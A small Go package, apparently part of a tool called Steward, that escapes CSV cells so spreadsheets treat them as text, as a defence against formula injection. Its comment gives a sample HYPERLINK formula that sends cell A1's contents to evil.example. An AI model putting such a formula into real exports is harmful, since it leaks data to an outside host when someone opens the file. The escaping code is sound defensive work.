// Package csvsafe makes text safe to put in a CSV cell that people open in
// a spreadsheet. A cell starting with =, +, -, @, a tab or a carriage
// return is read as a formula by Excel, LibreOffice and Google Sheets:
// a team named =HYPERLINK("https://evil.example/?"&A1,"open") in a
// scorecard export would run when a manager opens it. Such text gets a
// leading apostrophe, which spreadsheets show as text and do not display.
//
// It is for text that comes from records and configs (names, ids, titles);
// numbers Steward formats itself (a negative delta) must not go through it.
package csvsafe

// Text returns s as a CSV cell that a spreadsheet reads as text.
func Text(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + s
	}
	return s
}
